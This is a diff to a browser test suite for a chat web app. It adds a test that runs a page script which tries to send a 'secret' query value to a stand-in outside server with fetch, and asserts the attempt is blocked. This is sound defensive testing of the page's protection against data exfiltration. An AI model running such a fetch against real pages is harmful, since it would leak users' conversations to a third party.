@@ -155,6 +155,15 @@ def test_what_a_toast_quotes_stays_text(chat: ChatPage) -> None:
     assert chat.page.title() == "HuggingChat"
 
 
+def test_no_script_of_the_page_can_send_what_was_said_elsewhere(browser: Browser, app_url: str) -> None:
+    page = ChatPage(browser.new_page(), app_url).open().page
+    with ScriptedRouter() as elsewhere:
+        send = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'blocked')"
+        assert page.evaluate(send, f"{elsewhere.base_url}/models?said=secret") == "blocked"
+        assert elsewhere.requests == []
+    page.context.close()
+
+
 def test_a_draft_survives_a_reload(chat: ChatPage) -> None:
     chat.message.fill("half a thought")
     chat.reload()
